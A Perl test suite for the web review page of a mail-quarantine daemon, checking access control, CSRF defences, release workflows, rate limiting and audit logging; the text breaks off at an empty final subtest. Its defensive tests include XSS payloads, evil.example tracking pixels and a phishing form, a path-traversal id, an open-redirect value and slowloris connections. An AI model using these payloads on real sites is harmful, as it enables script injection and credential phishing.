#!/usr/bin/perl
# The review page as browsers, programs and attackers meet it: who sees what, what is done once and
# only by who may, and hostile mail that does nothing.
use strict; use warnings;
use lib 't/lib';
use JSON::PP;
use MIME::Base64;
use Test::More;
use Wonted::Daemon;
use Wonted::Milter;
use Wonted::Place;
use Wonted::Review;

my $place = Wonted::Place->new;
my $sink = Wonted::Review::Sink->start($place);
my $rules = <<'END';
rule says_prize
    reason  "It speaks of a prize in {subject}"
    when    subject contains "prize"
    threat  +12
rule says_sale
    reason  "It sells"
    when    subject contains "sale"
    spam    +8
rule says_gold
    reason  "It speaks of gold"
    when    subject contains "gold"
    spam    +7
END
my $more = <<'END';
tenant "one" {
	domains = {"one.example"}
	review_name = "One & Sons"
	review_contact = "help desk <b>117</b>"
}
tenant "two" {
	domains = {"two.example"}
}
policy "default" {
	on_spam = quarantine
}
END
my $d = Wonted::Daemon->new($place, zone => '', rules => $rules, more => $more,
	set => { release_smtp => qq("127.0.0.1:$sink->{port}"), review_url => '"https://mail.one.example/"' })->start;
my $r = Wonted::Review->new($d);

my $n = 0;
sub mail {
	my (%o) = @_;
	my $m = Wonted::Milter->new(socket => $d->socket, timeout => 30);
	my $got = $m->send(from => 'bob@example.net', to => $o{to}, id => '4Xrev' . ++$n,
		message => $o{message} // "From: \"Bob B\" <bob\@example.net>\nTo: x\@one.example\nSubject: $o{subject}\nMessage-ID: <m$n\@example.net>\n\n" . ($o{text} // "Hello $n.\n"));
	$m->quit;
	return $got;
}
# held - ids for somebody, newest first
sub held { my (@more) = @_; my ($status, $list) = $d->run('quarantine', 'list', @more); return $list =~ /^(\S+)  \d{4}-/mg }
sub id_of { my ($subject) = @_; my ($id) = held('--state', 'all', '--text', qq("$subject")); return $id }

mail(subject => 'prize for ann', to => ['ann@one.example']);
mail(subject => 'sale for ann', to => ['ann@one.example']);
mail(subject => 'sale for carl', to => ['carl@one.example']);
mail(subject => 'sale for both', to => ['ann@one.example', 'carl@one.example']);
mail(subject => 'sale for two', to => ['zoe@two.example']);
is(scalar(my @held = held()), 5, 'five are held');

ok($r->adduser('rita', 'reviewer of one', '--role', 'reviewer', '--tenant', 'one'), 'a reviewer');
ok($r->adduser('zack', 'reviewer of two', '--role', 'reviewer', '--tenant', 'two'), 'of the other tenant, too');
ok($r->adduser('root', 'admin of all', '--role', 'admin', '--all-tenants'), 'an admin');
ok($r->adduser('ann', 'user of one', '--role', 'user', '--mailbox', 'ann@one.example'), 'a user');
ok($r->adduser('carl', 'user of one, too', '--role', 'user', '--mailbox', 'carl@one.example'), 'another');
ok(!$r->adduser('eve', 'reviewer of all', '--role', 'reviewer', '--all-tenants'), 'only an admin sees all tenants');
ok(!$r->adduser('eve', 'short', '--tenant', 'one'), 'a short password is refused');
ok(!$r->adduser('e:ve', 'long enough', '--tenant', 'one'), 'so is a name with a colon');
is((stat "$d->{dir}/accounts")[2] & 0777, 0600, 'nobody else reads the accounts');
like(Wonted::Place::read_file("$d->{dir}/accounts"), qr/^ann:user:one:ann\@one\.example:\$y\$/m, 'passwords are yescrypt');
$r->start;

my %b = map { $_ => $r->browser } qw(rita zack root ann carl nobody);
subtest 'signing in' => sub {
	my $page = $b{nobody}->get('/');
	is($page->{status}, 303, 'a stranger is sent to the form');
	is($page->{header}{location}, '/login?next=%2F', 'there');
	like($page->{header}{'content-security-policy'}, qr/default-src 'none'.*frame-ancestors 'none'/, 'a policy on each answer');
	is($b{nobody}->get($_)->{status}, 303, "$_ is not for strangers") for '/hold/' . id_of('prize for ann'), '/requests', '/history', '/rule/says_prize';
	is($b{nobody}->get($_)->{status}, 401, "$_ is not for strangers") for '/api/holds', '/api/count', '/api/holds/x', '/api/requests';
	is($b{nobody}->login('rita', 'wrong password')->{status}, 403, 'a wrong password');
	is($b{nobody}->login('nobody', 'wrong password')->{status}, 403, 'a wrong name');
	is($b{nobody}->post('/login', name => 'rita', password => 'reviewer of one')->{status}, 403, 'without the form nobody signs in');
	for (['rita', 'reviewer of one'], ['zack', 'reviewer of two'], ['root', 'admin of all'], ['ann', 'user of one'], ['carl', 'user of one, too']) {
		is($b{$_->[0]}->login(@$_)->{status}, 303, "$_->[0] signs in");
	}
	my $other = $r->browser;
	$other->get('/login');
	my $in = $other->post('/login', form => $other->{form}, name => 'rita', password => 'reviewer of one', next => '//evil.example/');
	is($in->{header}{location}, '/', 'nobody is led to another site');
	like($in->{header}{'set-cookie'}, qr/^__Host-wonted=[0-9a-f]{64}; Path=\/; Secure; HttpOnly; SameSite=Strict; Max-Age=\d+$/, 'the cookie');
	$other->get('/');
	is($other->post('/logout')->{status}, 303, 'and out');
	my $token = $in->{header}{'set-cookie'} =~ /=([0-9a-f]+)/ ? $1 : '';
	$other->{cookies} = { '__Host-wonted' => $token };
	is($other->get('/')->{status}, 303, 'the old cookie is worth nothing');
	for my $bad ('', 'x', '0' x 64, "$token'--", 'a' x 5000) {
		$other->{cookies} = { '__Host-wonted' => $bad };
		is($other->get('/')->{status}, 303, 'nor is one that was made up');
	}
};

my %id = map { $_ => id_of($_) } 'prize for ann', 'sale for ann', 'sale for carl', 'sale for both', 'sale for two';
my %sees = (
	ann => ['prize for ann', 'sale for ann', 'sale for both'], carl => ['sale for carl', 'sale for both'],
	rita => ['prize for ann', 'sale for ann', 'sale for carl', 'sale for both'], zack => ['sale for two'], root => [keys %id],
);
subtest 'each sees his own' => sub {
	for my $who (sort keys %sees) {
		my %own = map { $id{$_} => 1 } @{ $sees{$who} };
		my $b = $b{$who};
		is_deeply([sort(Wonted::Review::Browser::ids($b->get('/')))], [sort keys %own], "$who: the list");
		is_deeply([sort(Wonted::Review::Browser::ids($b->get('/', q => 'sale')))], [sort grep { $own{$_} } @id{grep { /sale/ } keys %id}], "$who: a search");
		is_deeply([sort(Wonted::Review::Browser::ids($b->get('/', to => $_)))], [sort grep { $own{$_} } $who eq 'ann' ? () : $_ =~ /zoe/ ? $id{'sale for two'} : @id{'sale for carl', 'sale for both'}],
			"$who: asked for $_, which tells ann nothing") for 'carl@one.example', 'zoe@two.example';
		my $api = decode_json($b->get('/api/holds')->{body});
		is_deeply([sort map { $_->{id} } @{ $api->{holds} }], [sort keys %own], "$who: the API's list");
		is(decode_json($b->get('/api/count')->{body})->{count}, scalar keys %own, "$who: the API's count");
		for my $subject (sort keys %id) {
			my $may = $own{ $id{$subject} };
			is($b->get("/hold/$id{$subject}")->{status}, $may ? 200 : 404, "$who: page of \"$subject\"");
			is($b->get("/hold/$id{$subject}/html")->{status}, $may ? 200 : 404, "$who: its HTML");
			is($b->get("/hold/$id{$subject}/raw")->{status}, $who =~ /ann|carl/ ? 403 : $may ? 200 : 404, "$who: its bytes");
			is($b->get("/api/holds/$id{$subject}")->{status}, $may ? 200 : 404, "$who: the API's \"$subject\"");
			next if $may;
			for my $act (qw(delete report release)) {
				my $got = $b->follow('/act', act => $act, sure => 1, id => $id{$subject});
				like($got->{body}, qr/Failed: 1/, "$who: cannot $act \"$subject\"");
				$b->{headers}{'X-Wonted-CSRF'} = $b->{csrf};
				is($b->request('POST', "/api/holds/$id{$subject}", "act=$act")->{status}, 409, "$who: nor by the API");
				delete $b->{headers}{'X-Wonted-CSRF'};
			}
		}
		is($b->get($_)->{status}, $who =~ /ann|carl/ ? 403 : 200, "$who: $_") for '/requests', '/rule/says_sale', '/api/requests';
	}
	is(scalar(my @still = held()), 5, 'nothing was done');
	unlike($b{ann}->get("/hold/$id{'sale for both'}")->{body}, qr/carl/, 'of a message to several each sees himself only');
	unlike($b{ann}->get("/api/holds/$id{'sale for both'}")->{body}, qr/carl/, 'by the API too');
	like($b{rita}->get("/hold/$_")->{status}, qr/^40[04]/, "$_ is no hold") for '..%2f..%2findex.sqlite', '%00', 'x' x 3000, "'", '%ff';
	like($b{rita}->get('/')->{body}, qr/One &amp; Sons.*help desk &lt;b&gt;117/s, 'the house has its name');
};

subtest 'forms of others' => sub {
	my $before = join ' ', held();
	is($b{rita}->post('/act', act => 'delete', sure => 1, id => $id{'sale for ann'}, csrf => '')->{status}, 403, 'no token');
	is($b{rita}->post('/act', act => 'delete', sure => 1, id => $id{'sale for ann'}, csrf => $b{ann}{csrf})->{status}, 403, 'the token of another');
	$b{rita}{headers}{'Sec-Fetch-Site'} = 'cross-site';
	is($b{rita}->post('/act', act => 'delete', sure => 1, id => $id{'sale for ann'})->{status}, 403, 'a browser that says where it comes from');
	delete $b{rita}{headers}{'Sec-Fetch-Site'};
	is($b{rita}->request('GET', "/act?act=delete&sure=1&id=$id{'sale for ann'}&csrf=$b{rita}{csrf}")->{status}, 405, 'GET does nothing');
	is($b{rita}->request('POST', "/api/holds/$id{'sale for ann'}", 'act=delete')->{status}, 403, 'nor the API without a token');
	is($b{rita}->request($_, '/')->{status}, 405, "$_ is not known") for qw(PUT PATCH TRACE);
	is(join(' ', held()), $before, 'nothing was done');
};

subtest 'acts' => sub {
	my $page = $b{ann}->follow('/act', act => 'release', sure => 1, id => $id{'sale for ann'}, why => 'I want it');
	like($page->{body}, qr/Released: 1.*handed to the mail server for 1 recipient: 250 2\.0\.0 Ok: queued as Q\d+/s, 'spam is released by its owner, and the reply is told');
	is(scalar(grep { /\Aann\@one\.example\n.*Subject: sale for ann/s } $sink->taken), 1, 'and arrives');
	like($b{ann}->follow('/act', act => 'release', sure => 1, id => $id{'sale for ann'})->{body}, qr/Failed: 1/, 'once only');
	is(scalar(my @a = $sink->taken), 1, 'really');
	$page = $b{ann}->get("/hold/$id{'prize for ann'}");
	like($page->{body}, qr/Why it is held.*It speaks of a prize in prize for ann.*Ask for its release/s, 'what may be dangerous can be asked for; its reasons come first');
	like($b{ann}->follow('/act', act => 'release', sure => 1, id => $id{'prize for ann'}, why => '<b>my</b> prize')->{body}, qr/Asked for: 1/, 'asked');
	is(scalar(my @c = $sink->taken), 1, 'nothing goes out');
	like($b{ann}->get("/hold/$id{'prize for ann'}")->{body}, qr/held/, 'it stays held');
	unlike($b{zack}->get('/requests')->{body}, qr/prize/, 'the other tenant does not see it');
	like($b{rita}->get('/requests')->{body}, qr/prize for ann.*ann.*&lt;b&gt;my&lt;\/b&gt; prize.*Deny/s, 'the reviewer does');
	is(scalar @{ decode_json($b{root}->get('/api/requests')->{body})->{requests} }, 1, 'the admin, too');
	is($b{ann}->post('/act', act => 'deny', sure => 1, id => $id{'prize for ann'})->{status}, 400, 'a user denies nothing');
	like($b{rita}->follow('/act', act => 'deny', sure => 1, id => $id{'prize for ann'}, back => '/requests')->{body}, qr/Denied: 1.*Nobody waits/s, 'denied');
	$b{ann}->follow('/act', act => 'release', sure => 1, id => $id{'prize for ann'});
	like($b{rita}->follow('/act', act => 'release', sure => 1, id => $id{'prize for ann'}, back => '/requests')->{body}, qr/Released: 1.*Nobody waits/s, 'approved');
	is(scalar(grep { /Subject: prize for ann/ } $sink->taken), 1, 'and arrives');
	$page = $b{carl}->follow('/act', act => 'delete', sure => 1, id => $id{'sale for both'});
	like($page->{body}, qr/Deleted: 1/, 'one deletes his part');
	like($b{ann}->get("/hold/$id{'sale for both'}")->{body}, qr/Release/, 'and not that of the other');
	like($b{rita}->follow('/act', act => 'report', sure => 1, id => $id{'sale for carl'})->{body}, qr/Reported: 1/, 'reported');
	mail(subject => 'refuse this sale', to => ['carl@one.example']);
	my $refused = id_of('refuse this');
	like($b{rita}->follow('/act', act => 'release', sure => 1, id => $refused)->{body}, qr/Failed: 1.*no thank you/s, 'a mail server that says no: told as a failure');
	like($b{rita}->get("/hold/$refused")->{body}, qr/>Release</, 'and it stays held');
	$b{rita}->follow('/act', act => 'delete', sure => 1, id => $refused);
};

subtest 'many at once' => sub {
	mail(subject => "sale number $_", to => ['ann@one.example']) for 1 .. 60;
	mail(subject => "gold sale $_", to => ['ann@one.example']) for 1 .. 2;
	mail(subject => "gold $_", to => ['ann@one.example']) for 1 .. 3;
	my $page = $b{rita}->get('/');
	my @first = Wonted::Review::Browser::ids($page);
	is(scalar @first, 50, 'a page of fifty');
	cmp_ok(length $page->{body}, '<', 60_000, 'of at most 60 KB');
	my ($older) = $page->{body} =~ /href="([^"]+)">Older/;
	my @second = Wonted::Review::Browser::ids($b{rita}->get($older =~ s/&amp;/&/gr));
	my %all = map { $_ => 1 } @first, @second;
	is(scalar keys %all, @first + @second, 'the next page repeats none');
	is(scalar keys %all, scalar(my @held = held('--tenant', 'one')), 'and misses none');
	my ($cursor, @api) = ('');
	do {
		my $part = decode_json($b{rita}->get('/api/holds', limit => 7, ($cursor ? (cursor => $cursor) : ()))->{body});
		push @api, map { $_->{id} } @{ $part->{holds} };
		$cursor = $part->{cursor};
	} while $cursor;
	is_deeply(\@api, [@first, @second], 'the API, in sevens');
	$page = $b{rita}->post('/act', act => 'delete', which => 'all', q => 'sale number');
	like($page->{body}, qr/<h1>Delete 60 messages\?/, 'all that match: the count is shown first');
	mail(subject => 'sale number 61', to => ['ann@one.example']);
	like($b{rita}->post('/act', act => 'delete', which => 'all', q => 'sale number', sure => 60)->{body}, qr/<h1>Delete 61 messages\?/, 'one more came: asked again');
	like($b{rita}->follow('/act', act => 'delete', which => 'all', q => 'sale number', sure => 61)->{body}, qr/Deleted: 61/, 'done');
	is($b{rita}->post('/act', act => 'delete')->{status}, 400, 'nothing selected is nothing done');
	like($b{rita}->post('/act', act => 'release', id => [map { id_of($_) } 'gold 1', 'gold 2'])->{body}, qr/<h1>Release 2 messages/, 'two that were selected are shown, too');
	# a bad rule
	like($b{rita}->get('/rule/says_gold')->{body}, qr/held, and it gave points.*>5</s, 'the page of a rule counts');
	like($b{rita}->get('/hold/' . id_of('gold 1'))->{body}, qr/2 more are held for the same deciding reason/, 'and that of a message');
	$page = $b{rita}->post('/act', act => 'release', which => 'all', rule => 'says_gold', only_because => 1);
	like($page->{body}, qr/<h1>Release 3 messages/, 'only because of it: those that the other rule holds, too, are none of them');
	my ($status, $said) = $d->run('quarantine', 'release', '--rule', 'says_gold', '--since', '2h', '--only-because');
	like($said, qr/3 holds match/, 'the tool counts the same, and asks');
	($status, $said) = $d->run('quarantine', 'release', '--rule', 'says_gold', '--since', '2h', '--only-because', '--yes', '--why', 'a bad rule');
	is($status, 0, 'and releases') or diag $said;
	is(scalar(grep { /Subject: gold \d\r/ } $sink->taken), 3, 'three');
	is(scalar(grep { /Subject: gold sale/ } $sink->taken), 0, 'and no other');
};

subtest 'two at the same time' => sub {
	mail(subject => 'slow sale', to => ['ann@one.example']);
	my $slow = id_of('slow sale');
	my @pids;
	for my $who (qw(rita root ann rita root ann)) {
		my $pid = fork // die;
		if (!$pid) { eval { $b{$who}->post('/act', act => 'release', sure => 1, id => $slow) }; require POSIX; POSIX::_exit(0) }
		push @pids, $pid;
	}
	waitpid $_, 0 for @pids;
	is(scalar(grep { /Subject: slow sale/ } $sink->taken), 1, 'six who release it: it goes out once');
};

subtest 'hostile mail' => sub {
	my $rtl = "\xe2\x80\xae";
	my $html = '<html><head><style>body{background:url(http://evil.example/x)}</style><base href="http://evil.example/"></head><body onload="alert(1)">'
	    . '<script>alert(1)</script><form action="http://evil.example/"><input name=p><button>Log in</button></form><svg><animate onbegin="alert(2)" attributeName=x dur=1s></svg>'
	    . '<img src="http://evil.example/pixel.gif" onerror="alert(3)" alt="The logo"><iframe src="http://evil.example/"></iframe><a href="javascript:alert(4)">click</a>'
	    . '<p style="position:fixed;inset:0">all over</p><math><mtext></form><mglyph><style></math><img src onerror=alert(5)></body></html>';
	mail(to => ['ann@one.example'], message => "From: \"<script>alert(6)</script>${rtl}\" <bob\@example.net>\nSubject: prize <img src=x onerror=alert(7)> ${rtl}gpj.exe\n"
	    . "X-Big: " . ('y' x 30000) . "\nX-Quote: \"'><script>alert(8)</script>\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html; charset=utf-8\n\n$html\n"
	    . "--b\nContent-Type: application/octet-stream; name=\"<script>alert(9)</script>.exe\"\nContent-Disposition: attachment\nContent-Transfer-Encoding: base64\n\nTVqQAA==\n--b--\n");
	my $id = id_of('onerror');
	my @pages = map { [$_, $b{rita}->get($_)] } '/', "/hold/$id", "/hold/$id/html", '/history', '/rule/%3Cscript%3Ealert(1)', '/?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E&from=%3Cb%3E', '/%3Cscript%3E';
	for (@pages) {
		my ($path, $page) = @$_;
		(my $rest = $page->{body}) =~ s{<script type="module" src="/review\.js"></script>}{};
		unlike($rest, qr/<(?:script|svg|iframe|form action="http|img|style|base|math)/i, "$path: none of its elements");
		(my $bare = $rest) =~ s/"[^"]*"/""/g;
		unlike($bare, qr/<[^>]*\s(?:on\w+|style)\s*=/i, "$path: none of its attributes");
		unlike($rest, qr/(?:href|src|action)="(?!\/(?!\/)|#)/i, "$path: every address is one of this site");
		unlike($rest, qr/$rtl/, "$path: no text turns around");
		ok(defined $page->{header}{'content-security-policy'}, "$path: has a policy");
		cmp_ok(length $page->{body}, '<', 100_000, "$path: is no larger than it has to be");
	}
	like($pages[2][1]{header}{'content-security-policy'}, qr/^sandbox; default-src 'none'/, 'its own HTML is in a sandbox');
	like($pages[2][1]{body}, qr/<p>all over<\/p>/, 'its text is there');
	like($pages[2][1]{body}, qr/<u>click<\/u> <small>\[javascript:alert\(4\)\]/, 'and where a link would lead, as text');
	like($pages[1][1]{body}, qr/can harm the machine.*&lt;script&gt;alert\(9\).*exe/s, 'its file is named behind a warning');
	like($b{rita}->get("/hold/$id/raw")->{header}{'content-disposition'}, qr/^attachment/, 'its bytes are a file');
};

subtest 'hostile requests' => sub {
	my $b = $b{nobody};
	is($b{rita}->request('POST', '/act', 'act=delete&why=' . 'x' x 300_000)->{status}, 413, 'a form that is too large');
	is($b{rita}->request('POST', '/act', join '&', map { "id=$_" } 1 .. 2000)->{status}, 400, 'one with too many fields');
	is($b{rita}->request('POST', '/act', 'why=%ff%fe')->{status}, 400, 'one that is no UTF-8');
	is($b{rita}->request('POST', '/act', 'why=%00a')->{status}, 400, 'one with a NUL');
	is($b->request('GET', '/?q=%ff')->{status}, 400, 'a query like that');
	like($b->raw("GET / HTTP/1.1\r\nHost: x\r\nX: " . 'y' x 100_000 . "\r\n\r\n") // '', qr{^(?:HTTP/1\.[01] (?:431|413|414|400)|\z)}, 'a header that is too large');
	like($b->raw("GET /" . 'y' x 100_000 . " HTTP/1.1\r\nHost: x\r\n\r\n") // '', qr{^(?:HTTP/1\.[01] 4\d\d|\z)}, 'an address that is too long');
	like($b->raw("\0\1\2\r\n\r\n") // '', qr{^(?:HTTP/1\.[01] 4\d\d|\z)}, 'no HTTP');
	like($b->raw("POST /login HTTP/1.1\r\nHost: x\r\nContent-Length: -5\r\nConnection: close\r\n\r\n") // '', qr{^(?:HTTP/1\.[01] 4\d\d|\z)}, 'a length below nothing');
	my $cut = $b->raw("POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\nContent-Length: 3\r\nConnection: close\r\n\r\nabc");
	like($cut, qr{^HTTP/1.1 415}, 'a form of another kind');
	# many who say nothing to the end keep nobody else waiting
	my @slow = map { my $s = $b->connect; print $s "GET / HTTP/1.1\r\nHost: x\r\nX-"; $s } 1 .. 50;
	is($b->get('/health')->{status}, 200, 'it answers beside fifty slow clients');
	my $s = $b->connect;
	local $SIG{PIPE} = 'IGNORE';
	my $began = time;
	my $ended = 0;
	while (time - $began < 60 && !$ended) {
		print $s 'y';
		my $in = '';
		vec($in, fileno $s, 1) = 1;
		$ended = 1 if select($in, undef, undef, 0.5) && !sysread $s, my $bytes, 100;
	}
	ok($ended, 'one that sends a byte now and then is cut off all the same');
	is($b{rita}->get('/')->{status}, 200, 'and those who are signed in go on');
};

subtest 'passwords that are tried' => sub {
	my $b = $r->browser;
	my @got = map { $b->login('zack', "guess number $_") } 1 .. 12;
	like($got[0]{body}, qr/Name or password is wrong/, 'wrong');
	like($got[11]{body}, qr/Too many tries/, 'too often');
	like($b->login('zack', 'reviewer of two')->{body}, qr/Too many tries/, 'then not even the right one');
	is($b{zack}->get('/')->{status}, 200, 'who is in stays in');
	is($b->login('carl', 'user of one, too')->{status}, 303, 'other names are not concerned');
};

subtest 'accounts change' => sub {
	my $b = $r->browser;
	ok($r->adduser('tom', 'password one', '--role', 'reviewer', '--tenant', 'one'), 'made');
	is($b->login('tom', 'password one')->{status}, 303, 'in');
	ok($r->adduser('tom', 'password two', '--role', 'reviewer', '--tenant', 'one'), 'another password');
	is($b->get('/')->{status}, 303, 'signs out who is in');
	is($b->login('tom', 'password two')->{status}, 303, 'in again');
	is(($d->run('review', 'deluser', 'tom'))[0], 0, 'removed');
	is($b->get('/')->{status}, 303, 'out');
	is($b->login('tom', 'password two')->{status}, 403, 'for good');
	like(($d->run('review', 'users'))[1], qr/^ann +user +one  ann\@one\.example$/m, 'they are listed');
};

subtest 'the API with a token' => sub {
	my $b = $r->browser;
	mail(subject => 'sale by API', to => ['ann@one.example']);
	my $id = id_of('sale by API');
	$b->get('/login');
	my $got = $b->post('/api/session', form => $b->{form}, name => 'ann', password => 'user of one');
	is($got->{status}, 200, 'signed in') or diag $got->{body};
	my $token = decode_json($got->{body})->{token};
	$b = $r->browser(headers => { Authorization => "Bearer $token" });
	like($b->request('POST', "/api/holds/$id", 'act=release')->{body}, qr/"outcome":"done".*queued as/, 'a release without another token');
	is($b->request('DELETE', '/api/session')->{status}, 204, 'out');
	is($b->get('/api/holds')->{status}, 401, 'really');
};

subtest 'signed links' => sub {
	mail(subject => 'sale by link', to => ['ann@one.example', 'carl@one.example']);
	my $id = id_of('sale by link');
	my ($status, $url) = $d->run('review', 'link', $id, 'ann@one.example');
	is($status, 0, 'made') or diag $url;
	my ($path) = $url =~ m{^https://mail\.one\.example(/link/\S+)$}m;
	ok($path, 'under the address of the page');
	isnt(($d->run('review', 'link', $id, 'dan@one.example'))[0], 0, 'none for who has no part in it');
	my $b = $r->browser;
	my $page = $b->get($path);
	is($page->{status}, 200, 'a page');
	ok(!$b->{cookies}{'__Host-wonted'}, 'GET signs nobody in');
	is($b->get("/hold/$id")->{status}, 303, 'and shows nothing');
	$page = $b->follow($path, form => $b->{form});
	like($page->{body}, qr/sale by link.*Release/s, 'the button opens the message');
	is_deeply([Wonted::Review::Browser::ids($b->get('/'))], [$id], 'and no other');
	is($b->get('/hold/' . id_of('onerror'))->{status}, 404, 'not one of the same mailbox');
	is(decode_json($b->get('/api/count')->{body})->{count}, 1, 'counted, too');
	like($b->follow('/act', act => 'release', sure => 1, id => $id)->{body}, qr/Released: 1/, 'released');
	my ($mail) = grep { /Subject: sale by link/ } $sink->taken;
	like($mail, qr/\Aann\@one\.example\n/, 'to that mailbox alone');
	for my $bad ($path =~ s/.\z/0/r =~ s/(?<=\/link\/)./x/r, "$path.", '/link/x', '/link/' . 'x' x 3000, $path =~ s/\.[0-9a-f]+\z/./r) {
		is($r->browser->get($bad)->{status}, 404, 'a link that was changed');
	}
};

subtest 'a proxy that signs in' => sub {
	ok($r->stop, 'stopped');
	my $me = getpwuid $<;
	$d->configure(set => { review_proxy_user => qq("$me") });
	$r->start;
	my $b = $r->browser(headers => { 'X-Wonted-User' => 'carl@one.example' });
	is_deeply([sort(Wonted::Review::Browser::ids($b->get('/')))], [sort(held('--mailbox', 'carl@one.example'))], 'an address sees its own');
	$b->{headers}{'X-Wonted-User'} = 'ann@one.example';
	is_deeply([sort(Wonted::Review::Browser::ids($b->get('/')))], [sort(held('--mailbox', 'ann@one.example'))], 'another at the same browser sees his, not the one before');
	delete $b->{headers}{'X-Wonted-User'};
	is($b->get('/')->{status}, 303, 'without the field nobody is in');
	is($r->browser(headers => { 'X-Wonted-User' => 'x@elsewhere.example' })->get('/')->{status}, 303, 'nor is a stranger');
	is($r->browser(headers => { 'X-Wonted-User' => 'rita' })->get('/requests')->{status}, 200, 'an account has its role');
	$r->stop;
	$d->configure(set => { review_proxy_user => '"nobody"' });
	$r->start;
	is($r->browser(headers => { 'X-Wonted-User' => 'rita' })->get('/')->{status}, 303, 'another process than the proxy is not believed');
	$r->stop;
	my ($port) = Wonted::Place::free_ports(1);
	$d->configure(set => { review_proxy_user => qq("$me"), review_socket => qq("inet:$port\@127.0.0.1") });
	$r->{port} = $port;
	$r->start;
	is($r->browser(headers => { 'X-Wonted-User' => 'rita' })->get('/')->{status}, 303, 'nor is anybody over the network');
	is($r->browser->login('rita', 'reviewer of one')->{status}, 303, 'a password works there');
	$r->stop;
	$d->configure(set => { review_socket => qq("inet:$port\@0.0.0.0") });
	ok(!eval { $r->start }, 'it does not listen for the world');
	like($r->log, qr/not an address of the loopback/, 'and says so');
	delete $r->{port};
	$d->configure(set => { review_socket => qq("unix:$d->{dir}/review"), review_session => '"60s"', review_idle => '"60s"' });
	delete $r->{pid};
	$r->start;
};

subtest 'what was done' => sub {
	my ($status, $said) = $d->run('audit', 'verify');
	is($status, 0, 'the chain is whole') or diag $said;
	($status, my $all) = $d->run('audit', 'show', '--json');
	my @acts = map { decode_json($_) } split /\n/, $all;
	my $has = sub { my ($what, $who, $hold) = @_; return scalar grep { $_->{what} eq $what && $_->{who} eq $who && $_->{outcome} eq 'done' && (!$hold || $_->{hold} eq $hold) } @acts };
	ok($has->('view', 'rita', $id{'sale for carl'}), 'who read a message');
	ok($has->('release', 'ann', $id{'sale for ann'}), 'who released one');
	ok($has->('request', 'ann', $id{'prize for ann'}), 'who asked');
	ok($has->('deny', 'rita', $id{'prize for ann'}), 'who denied');
	ok($has->('delete', 'carl', $id{'sale for both'}), 'who deleted');
	ok($has->('report', 'rita', $id{'sale for carl'}), 'who reported');
	ok($has->('sign-in', 'root'), 'who signed in');
	ok(scalar(grep { $_->{what} eq 'account' && "@{$_->{recipients}}" eq 'tom' } @acts), 'whose account was made');
	is((grep { $_->{what} eq 'release' && $_->{outcome} eq 'done' && $_->{who} eq 'ann' && $_->{hold} eq $id{'sale for ann'} } @acts)[0]{why}, 'I want it', 'and why');
	unlike(Wonted::Place::read_file("$d->{dir}/audit/audit.log"), qr/\@one\.example|\trita\t/, 'no address or name stands in it');
	my $b = $r->browser;
	$b->login('ann', 'user of one');
	my $page = $b->get('/history')->{body};
	like($page, qr/release/, 'a user sees what was done with his mail');
	unlike($page, qr/rita|carl/, 'but not by whom else');
	unlike($page, qr/$id{'sale for carl'}/, 'and nothing of others');
	isnt(($d->run('audit', 'erase', 'ann@one.example'))[0], 0, 'an erasure wants to be meant');
	is(($d->run('audit', 'erase', 'ann@one.example', '--yes', '--why', 'she asked'))[0], 0, 'done');
	is(($d->run('audit', 'verify'))[0], 0, 'the chain is whole still');
	($status, $all) = $d->run('audit', 'show');
	unlike($all, qr/for ann\@one/, 'she is gone from it');
	like($all, qr/for \(erased [0-9a-f]+\)/, 'but that somebody was there');
	like($all, qr/for carl\@one/, 'others are still named');
	open my $f, '+<', "$d->{dir}/audit/audit.log" or die;
	seek $f, 200, 0;
	read $f, my $was, 1;
	seek $f, 200, 0;
	print $f $was eq 'x' ? 'y' : 'x';
	close $f;
	($status, $said) = $d->run('audit', 'verify');
	is($status, 1, 'what was changed is seen');
	like($said, qr/audit\.log, line 2: it does not follow/, 'and where');
};
subtest 'read again' => sub {
	my $b = $r->browser;
	$b->login('rita', 'reviewer of one');
	is($b->get('/')->{status}, 200, 'in');
	my $before = $r->log;
	$d->configure(set => { review_idle => '"5 parsecs"' });
	kill 'HUP', $r->{pid};
	ok(Wonted::Place::wait_for(sub { $r->log =~ /not reloaded, the old configuration stays: .*review_idle/s }), 'a bad file is refused');
	is($b->get('/')->{status}, 200, 'and nothing changes');
	$d->configure(set => { review_idle => '"10m"' }, more => $more =~ s/One & Sons/The New One/r);
	kill 'HUP', $r->{pid};
	ok(Wonted::Place::wait_for(sub { eval { $b->get('/login')->{body} =~ /The New One/ || $b->login('rita', 'reviewer of one') && $b->get('/')->{body} =~ /The New One/ } }), 'a good one is taken');
};
subtest 'a campaign' => sub {
	my $text = "Dear %s, your parcel %d waits at the depot because nobody opened the door today. Please confirm quickly where we should bring this parcel: http://x.example/%d\n";
	mail(subject => "parcel sale $_->[1]", to => [$_->[0]], text => sprintf $text, 'Somebody', $_->[1], $_->[1]) for ['ann@one.example', 71], ['carl@one.example', 72], ['zoe@two.example', 73];
	my $b = $r->browser;
	$b->login('rita', 'reviewer of one');
	my $page = $b->get('/hold/' . id_of('parcel sale 71'))->{body};
	like($page, qr/1 more is held with the same text, for 2 recipients in all/, 'who else got it, of her tenant');
	my ($path) = $page =~ m{href="(/\?campaign=[0-9a-f]+)"};
	is_deeply([sort(Wonted::Review::Browser::ids($b->get($path)))], [sort map { id_of("parcel sale $_") } 71, 72], 'and all of it in a list');
	my ($id) = $path =~ /=(.*)/;
	is(scalar(my @all = held('--campaign', $id)), 3, 'by the tool, of all tenants');
	my $ann = $r->browser;
	$ann->login('ann', 'user of one');
	unlike($ann->get('/hold/' . id_of('parcel sale 71'))->{body}, qr/same text/, 'which is not for users');
	is_deeply([Wonted::Review::Browser::ids($ann->get($path))], [id_of('parcel sale 71')], 'nor is a list of it');
};
subtest 'a full page' => sub {
	my $long = 'sale ' . join ' ', map { "<b>\"&'" x 3 . "word$_" } 1 .. 40;
	mail(to => [map { "person-with-a-long-name-$_\@sub.department.one.example" } 1 .. 5],
		message => "From: \"" . '<&' x 100 . "\" <" . 'a' x 60 . '@' . 'b' x 60 . ".example>\nSubject: $long $_\nMessage-ID: <l$_\@x.example>\n\nHello $_\n") for 1 .. 55;
	my $b = $r->browser;
	$b->login('rita', 'reviewer of one');
	my $page = $b->get('/');
	is(scalar(my @ids = Wonted::Review::Browser::ids($page)), 50, 'has 50 rows');
	cmp_ok(length $page->{body}, '<=', 60 * 1024, 'and is not larger than 60 KB, whatever stands in them');
};
subtest 'a second page' => sub {
